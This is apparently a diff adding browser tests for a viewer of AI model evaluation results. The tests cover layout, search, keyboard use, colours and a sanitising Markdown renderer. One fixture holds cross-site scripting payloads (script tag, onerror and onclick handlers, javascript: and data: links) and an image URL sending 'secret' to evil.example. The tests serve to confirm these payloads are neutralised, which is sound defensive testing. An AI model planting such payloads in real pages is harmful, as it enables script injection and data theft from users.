@@ -173,7 +173,7 @@ def test_what_a_model_wrote_is_text(show: Show) -> None:
     assert "[U+202E]gnp.exe[U+2066] [U+001B][31m" in text
     assert page.evaluate("window.pwned") is None
     assert page.locator("#content a, #content script, svg[onload], img, #table a").count() == 0
-    assert page.locator("script").count() == 4
+    assert page.locator("script").count() == 5
 
 
 ATTACK = """async (url) => {
@@ -220,7 +220,7 @@ def test_the_policy_stops_what_an_escape_would_have_missed(show: Show) -> None:
 def test_two_runs_are_side_by_side(show: Show) -> None:
     first, second = (make_results(60, model, changes) for model, changes in (("mango", 3), ("melon", 4)))
     page = show(first, beside=second)
-    header = page.get_by_role("columnheader", name="answer")
+    header = page.get_by_role("columnheader", name="answer", exact=True)
     assert header.get_attribute("aria-colspan") == "2"
     assert page.locator("#states").inner_text().split() == (
         ["all", "60", "failed", "2", "incomplete", "2", "different", "28", "same", "28"]
@@ -236,6 +236,212 @@ def test_two_runs_are_side_by_side(show: Show) -> None:
     page.evaluate("openRow(0)")
     assert page.locator("h3", has_text="Answer of both").count() == 1
     assert page.locator("#content :is(del, ins)").count() == 0
+
+
+@pytest.mark.parametrize("sides", [1, 2])
+def test_what_was_expected_is_beside_the_answers(show: Show, sides: int) -> None:
+    texts, metadata = ["It is 16.", "It is 17."][:sides], {"id": 1, "target": "17"}
+    runs = [Results([response(text, prompt="34 - 17?", metadata=metadata)]) for text in texts]
+    page = show(runs[0], beside=runs[1] if sides == 2 else None)
+    page.evaluate("openRow(0)")
+    boxes = page.locator("#content section", has_text=re.compile("^(Answer|Expected)"))
+    assert boxes.all_inner_texts() == [*(f"Answer\n{text}" for text in texts), "Expected\n17"]
+    assert len({boxes.nth(index).bounding_box()["y"] for index in range(sides + 1)}) == 1
+
+
+def list_columns(page: Any) -> list[str]:
+    texts = page.locator(".ag-header-cell-text, .ag-header-group-text").all_inner_texts()
+    return [text for text in texts if text]
+
+
+def test_columns_are_in_the_order_of_reading_and_say_each_thing_once(show: Show) -> None:
+    results = [
+        response(
+            choices=(Choice(text=f"{number}"), Choice(text="b")), prompt=f"Question {number}",
+            price=number + 0.5, cost=number / 2,
+            metadata={"id": number, "split": "test", "score": number % 2, "expected": "1"},
+        )
+        for number in range(3)
+    ]  # fmt: skip
+    page = show(results)
+    assert list_columns(page) == ["state", "#", "sample", "prompt", "answer", "score", "price", "cost", "id"]
+    same = page.locator("#same").inner_text()
+    assert same.startswith("The same in all rows: ")
+    assert "split test" in same
+    assert "expected 1" in same
+    # What the samples of a call share is in the row that carries it.
+    assert first_cells(page, "price", 4) == ["$0.50", "", "$1.50", ""]
+    assert first_cells(page, "sample", 4) == ["0", "1", "0", "1"]
+    page.evaluate("openRow(1)")
+    assert page.locator("#row-title").inner_text().startswith("Row 0, sample 1")
+    facts = page.locator("#content table").inner_text()
+    assert "tokens" not in facts
+    assert "split" in facts
+
+
+def test_the_heading_sums_up_each_model(show: Show) -> None:
+    results = [
+        response(
+            "x" * number, prompt=f"{number}", model=model, price=0.5, cost=0.0, cached=True,
+            metadata={"score": float(number > bound)},
+        )
+        for model, bound in (("mango", 4), ("melon", 9))
+        for number in range(10)
+    ]  # fmt: skip
+    page = show(results)
+    assert page.locator("#summary").inner_text().endswith("$0.00 paid · $10.00 price when bought")
+    lines = page.locator("#strip tr").all_inner_texts()
+    assert [line.split("\t")[:7] for line in lines] == [
+        ["model", "n", "score", "price", "paid now", "median time", "errors"],
+        ["mango", "10", "0.5 ± 0.327", "$5.00", "$0.00", "stored", "0"],
+        ["melon", "10", "0 ± 0", "$5.00", "$0.00", "stored", "0"],
+    ]
+    label = page.locator("#strip .bars").first.get_attribute("aria-label")
+    assert label == "score from 0 to 1: 5, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 5"
+
+
+def test_a_phrase_is_found_in_the_text_that_is_visible(show: Show) -> None:
+    texts = ("What is 34 - 17?", "What is 17 - 34?", "34 or\n17\u202e", "What is 34\n- 17?")
+    prompts = ([{"role": "user", "content": text}] for text in texts)
+    page = show([response("It is assistant work.", prompt=prompt) for prompt in prompts])
+    for words, count in (
+        ("34 17", "4"), ('"34 - 17"', "2"), ('"34 - 17', "0"), ('"34 - 17" what', "2"), ("[u+202e]", "1"),
+        ('"assistant work"', "4"), ("user", "0"), ('"17? it"', "0"), ('""', "0"), ('"$0.25"', "4"), ("", "4"),
+    ):  # fmt: skip
+        page.locator("#search").fill(words)
+        wait_for_rows(page, count)
+
+
+@pytest.mark.parametrize(("key", "opens"), [("ArrowDown", False), ("Enter", True), ("/", False)])
+def test_keys_work_from_the_start(show: Show, key: str, opens: bool) -> None:
+    page = show(make_results(20))
+    page.keyboard.press(key)
+    assert page.get_by_role("dialog").is_visible() == opens
+    if key == "ArrowDown":
+        assert focused(page) == ("0", "state")
+    if key == "/":
+        assert page.evaluate("document.activeElement.id") == "search"
+
+
+HUES = """() => [...document.querySelectorAll("body *")].flatMap((node) => {
+    if (!node.checkVisibility() || node.closest(".right, .wrong")) return [];
+    const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
+    const style = getComputedStyle(node);
+    return [style.color, style.backgroundColor].map((color) => {
+        canvas.clearRect(0, 0, 1, 1);
+        canvas.fillStyle = color;
+        canvas.fillRect(0, 0, 1, 1);
+        const [red, green, blue, alpha] = canvas.getImageData(0, 0, 1, 1).data;
+        const most = Math.max(red, green, blue), spread = most - Math.min(red, green, blue);
+        const is = alpha && spread > 24 && ((most === red && green - blue < spread / 3) || most === green);
+        return is ? `${node.tagName} ${node.className} ${color}` : "";
+    }).filter(Boolean);
+})"""
+"""The elements that are red or green, and no scores."""
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_green_and_red_are_for_scores_alone(show: Show, scheme: str) -> None:
+    scored = [response("a", prompt=f"{number}", metadata={"score": number % 2}) for number in range(4)]
+    page = show([*scored, *make_results(60)], scheme=scheme)
+    page.locator("#states button", has_text="ok").click()
+    assert page.evaluate(HUES) == []
+    assert page.locator("#table .right").first.inner_text() == "1"
+    page = show(make_results(60), beside=make_results(60, "melon", 4), scheme=scheme)
+    page.locator("#states button", has_text="different").click()
+    page.evaluate("openRow(0)")
+    assert page.locator("#content ins").count() > 0
+    assert page.evaluate(HUES) == []
+
+
+def test_a_phone_shows_the_prompt_and_the_answer(show: Show) -> None:
+    page = show(make_results(60))
+    page.set_viewport_size({"width": 390, "height": 800})
+    page.wait_for_function("document.querySelectorAll('.ag-header-cell-text').length === 2")
+    assert list_columns(page) == ["prompt", "answer"]
+    assert page.evaluate("document.documentElement.scrollWidth") <= 390
+    page.locator(".ag-row").nth(5).click()
+    assert page.evaluate("document.querySelector('dialog').scrollWidth") <= 390
+
+
+def test_a_conversation_is_bubbles(show: Show) -> None:
+    roles = ("system", "user", "assistant", "user")
+    prompt = [{"role": role, "content": f"{role} says this"} for role in roles]
+    page = show([response("a", prompt=prompt)])
+    page.evaluate("openRow(0)")
+    bubbles = page.locator("#content .bubble")
+    assert [text.split("\n") for text in bubbles.all_inner_texts()] == [
+        [role, "", f"{role} says this"] for role in roles
+    ]
+    right = [bubbles.nth(index).bounding_box() for index in range(4)]
+    edges = [box["x"] + box["width"] for box in right]
+    assert edges[1] == edges[3] > max(edges[0], edges[2])
+
+
+MARKDOWN = f"""# Steps
+
+1. *Take* **34 - 17**, ~~not~~ `17`:
+
+```html
+<script>window.pwned = 1</script>
+```
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+<img src=x onerror=window.pwned=2> <b>bold</b>
+
+<div onclick="window.pwned=3">
+block
+</div>
+
+![secret](https://evil.example/p.png?q=secret "t") [a page](https://evil.example/?q=1)
+<https://evil.example/auto> [run](javascript:window.pwned=4) [data](data:text/html,x)
+![i](data:image/svg+xml,x) [reference][r] {HOSTILE}
+
+[r]: https://evil.example/r
+"""
+
+
+def test_markdown_is_rendered_on_demand_and_by_a_list_of_what_it_may_make(show: Show) -> None:
+    page = show([response(MARKDOWN, prompt=MARKDOWN)])
+    page.evaluate("openRow(0)")
+    assert page.locator("#content :is(h1, .rendered)").count() == 0
+    page.keyboard.press("m")
+    assert page.locator("#content .rendered").count() == 2
+    answer = page.locator("#content .rendered").last
+    for tag, text in (("h1", "Steps"), ("em", "Take"), ("strong", "34 - 17"), ("s", "not"), ("td", "1")):
+        assert answer.locator(tag).first.inner_text() == text
+    assert "<script>window.pwned = 1</script>" in answer.locator("pre").inner_text()
+    text = answer.inner_text()
+    for shown in (
+        "<img src=x onerror=window.pwned=2> <b>bold</b>", '<div onclick="window.pwned=3">',
+        "[secret] (https://evil.example/p.png?q=secret)", "a page (https://evil.example/?q=1)",
+        "[run](javascript:window.pwned=4)", "[data](data:text/html,x)", "[U+202E]gnp.exe",
+        "reference (https://evil.example/r)",
+    ):  # fmt: skip
+        assert shown in text
+    made = page.evaluate("[...document.querySelectorAll('.rendered *')].map((node) => node.localName)")
+    assert {*made} <= {
+        "h1", "p", "ol", "li", "em", "strong", "s", "code", "pre", "table", "thead", "tbody", "tr", "th",
+        "td", "br",
+    }  # fmt: skip
+    attributes = "[...document.querySelectorAll('.rendered *')].flatMap((node) => node.getAttributeNames())"
+    assert {*page.evaluate(attributes)} <= {"class", "start"}
+    assert page.evaluate("window.pwned") is None
+    page.get_by_role("button", name="Markdown").click()
+    assert page.locator("#content .rendered").count() == 0
+
+
+@pytest.mark.parametrize(
+    "text", ["[" * 50_000, "> " * 20_000 + "a", "* " * 20_000, "*a_" * 30_000, "`" * 60_000]
+)
+def test_markdown_that_is_all_marks_is_shown(show: Show, text: str) -> None:
+    page = show([response(text)])
+    page.evaluate("openRow(0)")
+    page.keyboard.press("m")
+    page.wait_for_selector("#content .rendered")
 
 
 def test_a_long_difference_is_not_computed(show: Show) -> None:
